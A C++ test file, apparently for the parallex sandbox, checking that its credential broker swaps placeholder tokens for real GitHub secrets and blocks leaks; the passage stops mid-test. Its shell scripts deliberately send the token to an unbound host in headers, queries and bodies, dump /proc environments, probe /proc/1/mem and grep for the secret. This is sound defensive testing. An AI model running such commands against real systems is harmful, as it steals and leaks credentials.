// The credential broker end to end: real seals through `parallex run` (the
// executable parallex-test-trust, which trusts the tests' CA for upstreams:
// run_harness.hpp), real clients inside them (curl, git, Node fetch, Python
// requests, Claude Code, Codex, opencode), loopback servers that check the
// real secret. The run holds placeholders only: its environment, what it can
// read of /proc and of the files it may read never show the secret.
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <fstream>
#include <thread>

#include "broker_harness.hpp"
#include "contains.hpp"
#include "run_harness.hpp"
#include "test_paths.hpp"

namespace px::broker::test {
namespace {

using px::test::contains;

namespace fs = std::filesystem;
using nlohmann::json;

// The value after "KEY=" on a line of `text`.
std::string field(const std::string& text, const std::string& key) {
  const std::size_t at = text.find(key + "=");
  if (at == std::string::npos) return {};
  const std::size_t start = at + key.size() + 1;
  return text.substr(start, text.find('\n', start) - start);
}

std::string quote(const std::string& s) {
  std::string out = "'";
  for (char c : s) out += c == '\'' ? std::string("'\\''") : std::string(1, c);
  return out + "'";
}

// A git helper that answers with the run's placeholder, as the agent's and a
// workspace's helpers do.
const char* kHelper = "!f() { echo username=x-access-token; echo password=$GH_TOKEN; }; f";

class BrokerRun : public ::testing::Test {
 protected:
  void SetUp() override {
    if (!have("python3") || !have("openssl") || !have("curl"))
      GTEST_SKIP() << "python3, openssl and curl are needed for the loopback servers and the clients";
    ASSERT_FALSE(folder_.root().empty());
    ASSERT_FALSE(folder_.profiles().empty());
    // A bare repository for git over HTTPS, with one commit on main.
    git_root_ = folder_.root() / "git";
    fs::create_directories(git_root_);
    const std::vector<std::string> git_env{"GIT_CONFIG_NOSYSTEM=1", "HOME=" + folder_.root().string(),
                                           "GIT_AUTHOR_NAME=t",     "GIT_AUTHOR_EMAIL=t@t",
                                           "GIT_COMMITTER_NAME=t",  "GIT_COMMITTER_EMAIL=t@t"};
    const auto seeded = spawn_and_wait(
        {"sh", "-c",
         "set -e; cd " + git_root_.string() +
             " && git init -q --bare -b main repo.git && git init -q -b main seed && cd seed && echo one > "
             "README && git add README && git commit -q -m one && git push -q ../repo.git main && git -C "
             "../repo.git config http.receivepack true"},
        git_env, folder_.root() / "logs", std::chrono::seconds(60));
    ASSERT_EQ(seeded.status, 0) << seeded.err;
    upstream_ = std::make_unique<UpstreamServer>(TestPki::get().server, folder_.root() / "logs", git_root_,
                                                 kGithubSecret);
    ASSERT_TRUE(upstream_->running());
  }

  std::string port() const { return std::to_string(upstream_->port()); }
  std::string resolve() const {
    return "bound.test=127.0.0.1,rules.test=127.0.0.1,ws.test=127.0.0.1,api.anthropic.test=127.0.0.1";
  }
  // A profile file of the test, where a user keeps theirs (out of git trees).
  fs::path write(const std::string& name, const std::string& text, int mode = 0600) const {
    const fs::path p = folder_.profiles() / name;
    write_file(p, text, mode);
    return p;
  }
  // A profile's `github` credential, its secret read from `secret_file`, bound
  // to the test's server (the first lines of a profile: more may follow).
  static std::string github_credential_yaml(const fs::path& secret_file) {
    return "credentials:\n"
           "  github:\n"
           "    secret: {file: " +
           secret_file.string() +
           "}\n"
           "    hosts: [bound.test]\n"
           "    env: [GH_TOKEN]\n";
  }
  // `parallex run FLAGS -- sh -c SCRIPT` in the work folder.
  Outcome run_sh(std::vector<std::string> flags, const std::string& script,
                 const std::vector<std::string>& extra = {}) const {
    std::vector<std::string> args{"run", "--in", folder_.work().string()};
    args.insert(args.end(), flags.begin(), flags.end());
    args.insert(args.end(), {"--", "sh", "-c", script});
    return folder_.parallex(args, resolve(), extra);
  }
  bool server_saw(const std::string& needle) const {
    for (const auto& r : upstream_->requests())
      if (contains(r.dump(), needle)) return true;
    return false;
  }
  // The secret in any file under `dir` (what a run left behind).
  static std::vector<std::string> files_holding(const fs::path& dir, const std::string& secret) {
    std::vector<std::string> found;
    std::error_code ec;
    for (auto it = fs::recursive_directory_iterator(dir, fs::directory_options::skip_permission_denied, ec);
         it != fs::recursive_directory_iterator(); it.increment(ec)) {
      if (ec || !it->is_regular_file(ec)) continue;
      if (contains(slurp(it->path()), secret)) found.push_back(it->path().string());
    }
    return found;
  }

  // Agent "bot" with the test's token, which agent.yaml binds to the test's
  // GitHub stand-in (bound.test) instead of GitHub's own hosts (same source,
  // other hosts: agent.yaml amends the default credential). Its folder.
  fs::path make_agent_bound_to_the_server() const {
    const auto made = folder_.parallex({"agent", "new", "bot", "--email", "bot@example.com", "--allow",
                                        "bound.test:" + port(), "--local-servers", "on"});
    EXPECT_EQ(made.status, 0) << made.err;
    const auto stored = folder_.parallex({"agent", "github", "bot", "--no-open"}, {}, {},
                                         std::chrono::seconds(30), kGithubSecret + "\n");
    EXPECT_EQ(stored.status, 0) << stored.out << stored.err;
    const fs::path agent = folder_.home() / "agents" / "bot";
    EXPECT_TRUE(contains(slurp(agent / "gh" / "hosts.yml"), kGithubSecret));
    std::ofstream(agent / "agent.yaml", std::ios::app)
        << "credentials:\n  github:\n    hosts: [bound.test]\n";
    return agent;
  }

  RunFolder folder_;
  fs::path git_root_;
  std::unique_ptr<UpstreamServer> upstream_;
};

TEST_F(BrokerRun, CurlGitNodeAndPythonUseThePlaceholderAndTheServerGetsTheSecret) {
  const fs::path token = folder_.secrets() / "token";
  write_file(token, kGithubSecret + "\n", 0600);
  const std::string half = kGithubSecret.substr(0, 20);
  const fs::path profile =
      write("broker.yaml", github_credential_yaml(token) +
                               "    shape: github-token\n"
                               "requests:\n"
                               "  rules.test:\n"
                               "    - allow: GET,HEAD /**\n"
                               "    - allow: POST /upload\n"
                               "    - deny: \"* /**\"\n"
                               "      reason: read-only in this run\n"
                               // The secret in two halves, so that the run can look for it in
                               // what it can read without any single place holding it whole.
                               "environment:\n"
                               "  set:\n"
                               "    HALF_A: " +
                               half +
                               "\n"
                               "    HALF_B: " +
                               kGithubSecret.substr(20) + "\n");
  const std::string p = port();
  const std::string bound = "https://bound.test:" + p, rules = "https://rules.test:" + p;
  // Python: requests when it is installed, the standard library otherwise
  // (both verify against the bundle the run sees).
  write_file(folder_.work() / "client.py",
             "import os, sys\n"
             "auth = {'Authorization': 'Bearer ' + os.environ['GH_TOKEN']}\n"
             "try:\n"
             "    import requests\n"
             "    print('python_lib=requests')\n"
             "    print('python=%d' % requests.get(sys.argv[1], headers=auth, timeout=20).status_code)\n"
             "except ImportError:\n"
             "    import urllib.request as u\n"
             "    print('python_lib=urllib')\n"
             "    print('python=%d' % u.urlopen(u.Request(sys.argv[1], headers=auth), timeout=20).status)\n",
             0644);
  std::string script =
      "set -u; echo \"placeholder=$GH_TOKEN\"\n"
      "curl -sS --max-time 20 -H \"Authorization: Bearer $GH_TOKEN\" " +
      bound +
      "/echo > curl.out; echo curl=$?\n"
      "git -c credential.helper= -c credential.helper=" +
      quote(kHelper) + " clone -q " + bound +
      "/git/repo.git clone; echo clone=$?\n"
      "cd clone && git -c user.name=t -c user.email=t@t commit -q --allow-empty -m brokered-push && git -c "
      "credential.helper= -c credential.helper=" +
      quote(kHelper) +
      " push -q origin HEAD:main; echo push=$?; cd ..\n"
      "python3 client.py " +
      bound +
      "/echo\n"
      // The exfiltration probes: a host the credential is not bound to, in a
      // header, in the query, in a body.
      "curl -s -o /dev/null -w 'header=%{http_code}\\n' --max-time 20 -H \"X-T: $GH_TOKEN\" " +
      rules +
      "/\n"
      "curl -s -o /dev/null -w 'query=%{http_code}\\n' --max-time 20 \"" +
      rules +
      "/?t=$GH_TOKEN\"\n"
      "curl -s -o /dev/null -w 'body=%{http_code}\\n' --max-time 20 --data \"t=$GH_TOKEN\" " +
      rules +
      "/upload\n"
      "curl -s -o /dev/null -w 'rule=%{http_code}\\n' --max-time 20 -X DELETE " +
      rules +
      "/x\n"
      // A client that does not trust the run's CA.
      // (a bundle of one system CA: the run's own is not in it)
      "awk '/BEGIN CERTIFICATE/{n++} n==1' /etc/ssl/certs/ca-certificates.crt > other-ca.pem\n"
      "curl -s -o /dev/null --max-time 20 --cacert other-ca.pem " +
      bound +
      "/echo; echo untrusting=$?\n"
      "echo cas=$(grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/ca-certificates.crt)\n"
      // A host without rules or credentials: an end-to-end tunnel, the
      // server's own certificate reaches the client.
      "curl -sk -v -o /dev/null --max-time 20 https://ws.test:" +
      p +
      "/tunnelled 2> tunnel.err; echo tunnel=$?\n"
      // What the run can see of itself and of the seal's init.
      "env > env.dump\n"
      "for p in /proc/[0-9]*; do cat $p/environ $p/cmdline 2>/dev/null; echo; done > proc.dump\n"
      "cat /proc/1/environ > init.environ 2>/dev/null; echo init_environ=$?\n"
      "dd if=/proc/1/mem bs=1 count=1 skip=4194304 of=/dev/null 2>/dev/null; echo init_mem=$?\n"
      "grep -rlsF -e \"$HALF_A$HALF_B\" \"$HOME\" /etc /tmp /var /run . --exclude=proc.dump > secret.files; "
      "echo searched=$?\n";
  if (have("node"))
    script += "node -e 'fetch(\"" + bound +
              "/echo\", {headers: {authorization: \"Bearer \" + process.env.GH_TOKEN}}).then(r => "
              "console.log(\"node=\" + r.status), e => console.log(\"node=error \" + e.cause))'\n";
  const auto r = run_sh({"--profile", profile.string(), "--allow", "bound.test:" + p, "--allow",
                         "rules.test:" + p, "--allow", "ws.test:" + p, "--local-servers"},
                        script);
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  const std::string ph = field(r.out, "placeholder");
  ASSERT_EQ(ph.size(), kGithubSecret.size()) << r.out;
  EXPECT_EQ(ph.substr(0, 4), "ghp_") << "a placeholder of the token's shape";
  EXPECT_NE(ph, kGithubSecret);
  EXPECT_FALSE(contains(r.out + r.err, kGithubSecret));

  // The clients: each used the placeholder; the server got the secret.
  EXPECT_EQ(field(r.out, "curl"), "0") << r.out << r.err;
  EXPECT_TRUE(contains(slurp(folder_.work() / "curl.out"), "Bearer " + ph));
  EXPECT_EQ(field(r.out, "clone"), "0") << r.out << r.err;
  EXPECT_EQ(field(r.out, "push"), "0") << r.out << r.err;
  const auto log =
      spawn_and_wait({"git", "-C", (git_root_ / "repo.git").string(), "log", "--format=%s", "main"}, {},
                     folder_.root() / "logs");
  EXPECT_TRUE(contains(log.out, "brokered-push")) << "the push reached the server: " << log.out;
  EXPECT_EQ(field(r.out, "python"), "200") << r.out << r.err;
  // Debian's python3 with python3-requests (scripts/install-deps.sh installs it
  // for the tests): then the run used requests, with its own CA handling.
  if (spawn_and_wait({"/usr/bin/python3", "-c", "import requests"}, {}, folder_.root() / "logs").status ==
          0 &&
      field(r.out, "python_lib") != "requests")
    ADD_FAILURE() << "requests is installed, yet the run used " << field(r.out, "python_lib") << ": "
                  << r.out;
  if (have("node")) {
    EXPECT_EQ(field(r.out, "node"), "200") << r.out << r.err;
  }
  EXPECT_TRUE(server_saw("Bearer " + kGithubSecret));
  EXPECT_FALSE(server_saw(ph)) << "the server never sees the placeholder";

  // The probes: refused, and said at the end of the run.
  EXPECT_EQ(field(r.out, "header"), "403");
  EXPECT_EQ(field(r.out, "query"), "403");
  EXPECT_EQ(field(r.out, "body"), "403");
  EXPECT_EQ(field(r.out, "rule"), "403");
  EXPECT_NE(field(r.out, "untrusting"), "0");
  EXPECT_TRUE(contains(r.err, "EXFILTRATION ATTEMPT refused: credential github sent to rules.test")) << r.err;
  EXPECT_TRUE(contains(r.err, "the broker refused a connection to bound.test: client-refused-run-ca"))
      << r.err;
  EXPECT_TRUE(contains(r.err, "requests through the broker:")) << r.err;

  // The run trusts one CA more than the system, in its view only.
  const auto host_cas = spawn_and_wait(
      {"grep", "-c", "BEGIN CERTIFICATE", "/etc/ssl/certs/ca-certificates.crt"}, {}, folder_.root() / "logs");
  EXPECT_EQ(std::stoi(field(r.out, "cas")), std::stoi(host_cas.out) + 1);

  // Never the secret: the environment, /proc, the seal's init, the files.
  EXPECT_FALSE(contains(slurp(folder_.work() / "env.dump"), kGithubSecret));
  EXPECT_TRUE(contains(slurp(folder_.work() / "env.dump"), "GH_TOKEN=" + ph));
  EXPECT_FALSE(contains(slurp(folder_.work() / "proc.dump"), kGithubSecret));
  EXPECT_FALSE(contains(slurp(folder_.work() / "init.environ"), kGithubSecret));
  EXPECT_NE(field(r.out, "init_mem"), "0") << "the seal's init is out of the command's ptrace reach";
  EXPECT_EQ(slurp(folder_.work() / "secret.files"), "") << "files the run can read that hold the secret";

  // The host without rules: a tunnel. The client saw the server's own
  // certificate (the tests' CA, not the run's), and the broker's request log
  // has no line for it.
  EXPECT_EQ(field(r.out, "tunnel"), "0") << slurp(folder_.work() / "tunnel.err");
  EXPECT_TRUE(contains(slurp(folder_.work() / "tunnel.err"), "issuer: CN=broker test CA"))
      << slurp(folder_.work() / "tunnel.err");
  EXPECT_TRUE(server_saw("/tunnelled"));

  // The record, the logs and the report.
  const fs::path run = folder_.latest_run();
  const auto record = json::parse(slurp(run / "run.json"));
  ASSERT_TRUE(record.contains("broker")) << record.dump(2);
  EXPECT_EQ(record["broker"]["credentials"], json::array({"github"}));
  EXPECT_FALSE(record["broker"]["exfiltration"].empty());
  EXPECT_FALSE(contains(slurp(run / "run.json"), kGithubSecret));
  const auto requests = json_lines(run / "requests.jsonl");
  ASSERT_FALSE(requests.empty());
  bool swapped = false;
  for (const auto& l : requests)
    swapped |= l.value("host", "") == "bound.test" && l.value("credentials", "") == "github";
  EXPECT_TRUE(swapped) << slurp(run / "requests.jsonl");
  EXPECT_FALSE(contains(slurp(run / "requests.jsonl") + slurp(run / "proxy.jsonl"), kGithubSecret));
  EXPECT_FALSE(contains(slurp(run / "requests.jsonl"), ph)) << "the log redacts the placeholder too";
  const auto report = folder_.parallex(
      {"report", "--runs-dir", run.parent_path().string(), "--run", run.filename().string()});
  EXPECT_EQ(report.status, 0) << report.err;
  EXPECT_TRUE(contains(report.out, "Requests (terminated hosts)")) << report.out;
  EXPECT_TRUE(contains(report.out, "bound.test")) << report.out;
  EXPECT_TRUE(contains(report.out, "EXFILTRATION ATTEMPT refused")) << report.out;
  EXPECT_FALSE(contains(report.out + report.err, kGithubSecret));
  for (const auto& l : requests) EXPECT_NE(l.value("host", ""), "ws.test") << "a tunnel is not read";

  // Nowhere in what the run left: its record folder, parallex's state, the
  // run folder (only the secret file itself holds it).
  EXPECT_EQ(files_holding(folder_.home(), kGithubSecret), std::vector<std::string>{});
  EXPECT_EQ(files_holding(folder_.work(), kGithubSecret), std::vector<std::string>{});
  EXPECT_EQ(files_holding(folder_.root() / "runtime", kGithubSecret), std::vector<std::string>{});
}

// `policy show` prints the credentials and the request rules with their
// origin and where each secret is read from, never a secret.
// The user's own CAs survive the broker: with NODE_EXTRA_CA_CERTS (and
// SSL_CERT_FILE) passed, the run's bundle is the system's + the run's CA +
// theirs, so Node's fetch (and curl) reach the user's own dev server, whose
// certificate a CA of theirs signed, while the broker still terminates its
// hosts. A file the run may not read is said at the start, with its grant,
// whether passed with --env or kept from the user's environment.
TEST_F(BrokerRun, TheUsersOwnCasJoinTheRunsBundle) {
  if (!have("node")) GTEST_SKIP() << "node is needed for its fetch";
  const fs::path dev = folder_.root() / "dev-ca";
  fs::create_directories(dev);
  const auto openssl = [&](const std::vector<std::string>& args) {
    std::vector<std::string> argv{"openssl"};
    argv.insert(argv.end(), args.begin(), args.end());
    const auto r = spawn_and_wait(argv, {}, folder_.root() / "logs");
    ASSERT_EQ(r.status, 0) << r.err;
  };
  const std::string d = dev.string();
  openssl({"req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout",
           d + "/ca.key", "-out", d + "/ca.crt", "-subj", "/CN=my dev CA", "-days", "2", "-addext",
           "basicConstraints=critical,CA:TRUE", "-addext", "keyUsage=critical,keyCertSign,cRLSign"});
  openssl({"req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout", d + "/dev.key",
           "-out", d + "/dev.csr", "-subj", "/CN=localhost"});
  write_file(dev / "ext", "subjectAltName=DNS:localhost\nextendedKeyUsage=serverAuth\n", 0644);
  openssl({"x509", "-req", "-in", d + "/dev.csr", "-CA", d + "/ca.crt", "-CAkey", d + "/ca.key",
           "-CAcreateserial", "-out", d + "/dev.crt", "-days", "2", "-extfile", d + "/ext"});
  ASSERT_FALSE(HasFatalFailure());
  // The CA file as a user keeps it: the key beside the certificate must not reach the run's bundle.
  const fs::path mine = folder_.root() / "my-ca.pem";
  write_file(mine, slurp(dev / "ca.key") + slurp(dev / "ca.crt"), 0644);
  UpstreamServer devserver(CertFiles{dev / "dev.crt", dev / "dev.key"}, folder_.root() / "logs");
  ASSERT_TRUE(devserver.running());
  const fs::path token = folder_.secrets() / "token";
  write_file(token, kGithubSecret + "\n", 0600);
  const fs::path profile = write("broker.yaml", github_credential_yaml(token));
  const std::string url = "https://localhost:" + std::to_string(devserver.port()) + "/echo";
  const std::string script =
      "node -e 'fetch(process.argv[1]).then(r => console.log(\"node=\" + r.status), e => "
      "console.log(\"node=\" + "
      "(e.cause && e.cause.code)))' " +
      url + "; curl -sS -o /dev/null -w 'curl=%{http_code}\\n' " + url +
      "; grep -c 'BEGIN CERTIFICATE' \"$NODE_EXTRA_CA_CERTS\" | sed 's/^/certs=/'; grep -c PRIVATE "
      "\"$NODE_EXTRA_CA_CERTS\" | sed 's/^/keys=/'";
  const std::vector<std::string> flags{"--profile",
                                       profile.string(),
                                       "--allow",
                                       "bound.test:" + port(),
                                       "--local-servers",
                                       "--env",
                                       "NODE_EXTRA_CA_CERTS=" + mine.string(),
                                       "--env",
                                       "SSL_CERT_FILE=" + mine.string()};
  // Not granted: said at the start, with the grant that fixes it.
  const Outcome ungranted = run_sh(flags, "true");
  EXPECT_TRUE(contains(ungranted.err, "--env NODE_EXTRA_CA_CERTS names " + mine.string() +
                                          ", which the run may not read: grant it with --grant " +
                                          mine.string()))
      << ungranted.err;
  // Exported in the user's shell, kept by the default profile (no --env): said the same way.
  const Outcome kept = run_sh({"--profile", profile.string(), "--allow", "bound.test:" + port()}, "true",
                              {"NODE_EXTRA_CA_CERTS=" + mine.string()});
  EXPECT_EQ(kept.status, 0) << kept.err;
  EXPECT_TRUE(contains(kept.err, "NODE_EXTRA_CA_CERTS (kept from your environment) names " + mine.string() +
                                     ", which the run may not read: grant it with --grant " + mine.string()))
      << kept.err;
  const Outcome kept_granted =
      run_sh({"--profile", profile.string(), "--allow", "bound.test:" + port(), "--grant", mine.string()},
             "true", {"NODE_EXTRA_CA_CERTS=" + mine.string()});
  EXPECT_EQ(kept_granted.status, 0) << kept_granted.err;
  EXPECT_TRUE(
      contains(kept_granted.err, "the run's CA bundle holds the 1 certificate of NODE_EXTRA_CA_CERTS"))
      << kept_granted.err;
  EXPECT_FALSE(contains(kept_granted.err, "which the run may not read")) << kept_granted.err;
  std::vector<std::string> granted = flags;
  granted.insert(granted.end(), {"--grant", mine.string()});
  const Outcome r = run_sh(granted, script);
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_EQ(field(r.out, "node"), "200") << r.out << r.err;
  EXPECT_EQ(field(r.out, "curl"), "200") << r.out << r.err;
  EXPECT_EQ(field(r.out, "keys"), "0") << "the key beside the CA stays out of the bundle";
  EXPECT_TRUE(contains(r.err, "the run's CA bundle holds the 1 certificate of NODE_EXTRA_CA_CERTS")) << r.err;
  EXPECT_FALSE(contains(r.err, "which the run may not read")) << r.err;
  // The broker still terminates its host: the bundle is the system's + the run's CA + the user's.
  EXPECT_GE(std::stoi(field(r.out, "certs").empty() ? "0" : field(r.out, "certs")), 3);
}

TEST_F(BrokerRun, PolicyShowPrintsCredentialsAndRulesWithTheirOrigin) {
  const fs::path token = folder_.secrets() / "token";
  write_file(token, kGithubSecret + "\n", 0600);
  const fs::path profile = write("show.yaml", github_credential_yaml(token) +
                                                  "requests:\n"
                                                  "  rules.test:\n"
                                                  "    - allow: GET,HEAD /**\n"
                                                  "    - deny: \"* /**\"\n"
                                                  "      reason: read-only\n"
                                                  "  ws.test: passthrough\n");
  const auto r =
      folder_.parallex({"policy", "show", "--in", folder_.work().string(), "--profile", profile.string(),
                        "--allow", "bound.test", "--allow", "rules.test", "--allow", "ws.test"});
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  const std::string origin = "[profile " + profile.string() + ":";
  EXPECT_TRUE(contains(r.out, "  github  to bound.test, in GH_TOKEN  " + origin + "2]")) << r.out;
  EXPECT_TRUE(contains(r.out, "secret from file " + token.string())) << r.out;
  EXPECT_TRUE(contains(r.out, "  rules.test  " + origin + "7]")) << r.out;
  EXPECT_TRUE(contains(r.out, "allow GET,HEAD /**  [" + profile.string() + ":8]")) << r.out;
  EXPECT_TRUE(contains(r.out, "deny * /**  \"read-only\"  [" + profile.string() + ":9]")) << r.out;
  EXPECT_TRUE(contains(r.out, "  ws.test  passthrough")) << r.out;
  EXPECT_FALSE(contains(r.out + r.err, kGithubSecret));
}

TEST_F(BrokerRun, TheAgentsGitHubTokenIsBrokeredByDefault) {
  const std::string p = port();
  const fs::path agent = make_agent_bound_to_the_server();
  if (HasFatalFailure()) return;

  const auto shown = folder_.parallex({"agent", "show", "bot"});
  EXPECT_TRUE(contains(shown.out, "Credential   github for bound.test (agent.yaml:"))
      << shown.out << shown.err;
  EXPECT_TRUE(contains(shown.out, "their proxy sends the token to bound.test only)")) << shown.out;
  EXPECT_FALSE(contains(shown.out, kGithubSecret));

  const std::string bound = "https://bound.test:" + p;
  // git asks the one helper of the agent's git config (no helper of the
  // test's): as it asks for the bound host, and for hosts the token is not
  // bound to (github.com is not, once agent.yaml names bound.test alone).
  const std::string script =
      "echo \"placeholder=$GH_TOKEN\"\n"
      "echo \"hosts_yml=$(grep -c " +
      kGithubSecret.substr(0, 4) +
      " \"$GH_CONFIG_DIR/hosts.yml\")\"\n"
      "cp \"$GH_CONFIG_DIR/hosts.yml\" hosts.yml.seen\n"
      "echo \"helpers=$(git config --get-all credential.helper | wc -l)\"\n"
      "printf 'protocol=https\\nhost=bound.test:" +
      p +
      "\\n\\n' | git credential fill > helper.out; echo helper=$?\n"
      "printf 'protocol=https\\nhost=github.com\\n\\n' | git credential fill > unbound_fill.out 2>&1; echo "
      "unbound_fill=$?\n"
      // The helper itself, as git runs it: no answer (nothing printed, exit 0).
      "h=$(git config --get-all credential.helper | tail -n 1)\n"
      "for host in github.com other.test bound.test.evil.test; do printf 'protocol=https\\nhost=%s\\n\\n' "
      "$host | sh -c \"${h#!} get\" >> unbound.out; echo unbound=$?; done\n"
      "git clone -q " +
      bound +
      "/git/repo.git clone; echo clone=$?\n"
      "cd clone && git commit -q --no-gpg-sign --allow-empty -m agent-push\n"
      "git push -q origin HEAD:main; echo push=$?\n";
  const auto r = folder_.parallex(
      {"agent", "run", "bot", "--in", folder_.work().string(), "--", "sh", "-c", script}, resolve());
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  const std::string ph = field(r.out, "placeholder");
  ASSERT_EQ(ph.size(), kGithubSecret.size()) << r.out;
  EXPECT_NE(ph, kGithubSecret);
  EXPECT_EQ(ph.substr(0, 4), "ghp_");
  const std::string seen = slurp(folder_.work() / "hosts.yml.seen");
  EXPECT_TRUE(contains(seen, "oauth_token: " + ph)) << "hosts.yml holds the placeholder in the run: " << seen;
  EXPECT_FALSE(contains(seen, kGithubSecret));
  EXPECT_TRUE(contains(slurp(agent / "gh" / "hosts.yml"), kGithubSecret)) << "the store itself is unchanged";
  // Its git config has one helper after the empty one: the agent's own.
  EXPECT_EQ(field(r.out, "helpers"), "2") << r.out;
  EXPECT_EQ(field(r.out, "helper"), "0") << r.err;
  EXPECT_TRUE(contains(slurp(folder_.work() / "helper.out"), "password=" + ph))
      << slurp(folder_.work() / "helper.out");
  // A host the token is not bound to: no answer, and git stops without one.
  EXPECT_NE(field(r.out, "unbound_fill"), "0") << slurp(folder_.work() / "unbound_fill.out");
  EXPECT_FALSE(contains(slurp(folder_.work() / "unbound_fill.out"), "password="));
  EXPECT_EQ(r.out.find("unbound=1"), std::string::npos) << r.out;
  EXPECT_TRUE(contains(r.out, "unbound=0\nunbound=0\nunbound=0\n")) << r.out;
  EXPECT_EQ(slurp(folder_.work() / "unbound.out"), "") << "the helper answers no host it is not bound to";
  EXPECT_EQ(field(r.out, "clone"), "0") << r.out << r.err;
  EXPECT_EQ(field(r.out, "push"), "0") << r.out << r.err;
  const auto log =
      spawn_and_wait({"git", "-C", (git_root_ / "repo.git").string(), "log", "--format=%s", "main"}, {},
                     folder_.root() / "logs");
  EXPECT_TRUE(contains(log.out, "agent-push")) << log.out;
  // The server received the secret (git's Basic credentials), never the placeholder.
  const auto basic = spawn_and_wait({"base64", "-w0"}, {}, folder_.root() / "logs", std::chrono::seconds(10),
                                    "x-access-token:" + kGithubSecret);
  ASSERT_FALSE(basic.out.empty());
  EXPECT_TRUE(server_saw("Basic " + basic.out)) << "git authenticated with the secret";
  EXPECT_FALSE(server_saw(ph));
  EXPECT_FALSE(contains(r.out + r.err, kGithubSecret));
  // The policy the run had: the source named, never the token.
  const auto record = json::parse(slurp(folder_.latest_run() / "run.json"));
  const auto& creds = record["policy"]["broker"]["credentials"];
  ASSERT_EQ(creds.size(), 1u) << record["policy"].dump(2);
  EXPECT_EQ(creds[0]["name"], "github");
  EXPECT_EQ(creds[0]["hosts"], json::array({"bound.test"}));
  EXPECT_TRUE(contains(creds[0]["source"].get<std::string>(), "agent bot's token")) << creds.dump();
  EXPECT_FALSE(contains(slurp(folder_.latest_run() / "run.json"), kGithubSecret));
  // Only the agent's store holds it: not the run's record folder, not the run folder.
  EXPECT_EQ(files_holding(folder_.latest_run(), kGithubSecret), std::vector<std::string>{});
  EXPECT_EQ(files_holding(folder_.work(), kGithubSecret), std::vector<std::string>{});
  const auto report = folder_.parallex({"report", "--runs-dir", folder_.latest_run().parent_path().string(),
                                        "--run", folder_.latest_run().filename().string()});
  EXPECT_EQ(report.status, 0) << report.err;
  EXPECT_TRUE(contains(report.out, "bound.test")) << report.out;
  EXPECT_FALSE(contains(report.out + report.err, kGithubSecret));
}

// A profile's own `github` credential replaces the agent's. The agent's token
// file (gh's hosts.yml) was masked by the replaced credential only, and the
// new one cannot mask a secret it does not know: the file is hidden from the
// run, never shown with the agent's real token in it.
TEST_F(BrokerRun, AProfilesOwnGithubCredentialHidesTheAgentsTokenFile) {
  const fs::path agent = make_agent_bound_to_the_server();
  if (HasFatalFailure()) return;
  std::string other = kGithubSecret;
  std::reverse(other.begin() + 4, other.end());  // another token of the same shape
  const fs::path token = folder_.secrets() / "profile-token";
  write_file(token, other + "\n", 0600);
  const fs::path profile =
      write("own-github.yaml", github_credential_yaml(token) + "    shape: github-token\n");
  const std::string script =
      "echo \"placeholder=$GH_TOKEN\"\n"
      "cat \"$GH_CONFIG_DIR/hosts.yml\" > hosts.yml.seen 2>&1; echo read=$?\n"
      "grep -rl " +
      kGithubSecret.substr(4, 12) +
      " \"$GH_CONFIG_DIR\" \"$HOME\" 2>/dev/null | head -1 > found.out; echo done\n";
  const auto r = folder_.parallex({"agent", "run", "bot", "--profile", profile.string(), "--in",
                                   folder_.work().string(), "--", "sh", "-c", script},
                                  resolve());
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  const std::string ph = field(r.out, "placeholder");
  EXPECT_EQ(ph.size(), other.size()) << r.out;
  EXPECT_NE(ph, other);
  EXPECT_NE(field(r.out, "read"), "0")
      << "the agent's token file is hidden: " << slurp(folder_.work() / "hosts.yml.seen");
  EXPECT_FALSE(contains(slurp(folder_.work() / "hosts.yml.seen"), kGithubSecret));
  EXPECT_EQ(slurp(folder_.work() / "found.out"), "") << "no file the run can read holds the agent's token";
  EXPECT_FALSE(contains(r.out + r.err, kGithubSecret));
  EXPECT_EQ(files_holding(folder_.work(), kGithubSecret), std::vector<std::string>{});
  EXPECT_TRUE(contains(slurp(agent / "gh" / "hosts.yml"), kGithubSecret)) << "the store itself is unchanged";
  // The record says why the file was hidden, naming the credential, never the token.
  const std::string record = slurp(folder_.latest_run() / "run.json");
  EXPECT_TRUE(contains(record, "holds the secret of the credential \\\"github\\\""))
      << record.substr(0, 4000);
  EXPECT_FALSE(contains(record, kGithubSecret));
}

// The real gh (GitHub's CLI) inside the seal, against the test's server
// posing as a GitHub Enterprise host (GH_HOST=bound.test:PORT, which gh reaches
// at https://bound.test:PORT/api/v3/ and /api/graphql with GH_ENTERPRISE_TOKEN).
TEST_F(BrokerRun, TheRealGhUsesThePlaceholderForAnEnterpriseHost) {
  if (!have("gh")) GTEST_SKIP() << "gh is not installed (apt-get install gh)";
  const std::string p = port();
  const fs::path agent = make_agent_bound_to_the_server();
  if (HasFatalFailure()) return;
  const std::string half = kGithubSecret.substr(0, 20);
  const std::string script =
      "echo \"placeholder=$GH_TOKEN\"\n"
      "echo \"enterprise=$GH_ENTERPRISE_TOKEN\"\n"
      "export GH_HOST=bound.test:" +
      p +
      " GH_NO_UPDATE_NOTIFIER=1 GH_PROMPT_DISABLED=1\n"
      "gh api /user > user.out 2> user.err; echo user=$?\n"
      "gh api repos/o/r > repo.out 2> repo.err; echo repo=$?\n"
      // (only this host: github.com, where GH_TOKEN's placeholder would go, is not reachable here)
      "gh auth status --hostname \"$GH_HOST\" > status.out 2>&1; echo status=$?\n"
      // gh's own trace of its requests: the header it sent, as the run sees it.
      "GH_DEBUG=api gh api /user > /dev/null 2> debug.err; echo debug=$?\n"
      // What the run can see of itself; the secret, searched for in two
      // halves so that no single place of the run holds it whole.
      "env > env.dump\n"
      "for p in /proc/[0-9]*; do cat $p/environ $p/cmdline 2>/dev/null; echo; done > proc.dump\n"
      "grep -rlsF -e \"$HALF_A$HALF_B\" \"$HOME\" \"$GH_CONFIG_DIR\" /etc /tmp /var /run . "
      "--exclude=proc.dump > secret.files; echo searched=$?\n";
  const auto r =
      folder_.parallex({"agent", "run", "bot", "--in", folder_.work().string(), "--env", "HALF_A=" + half,
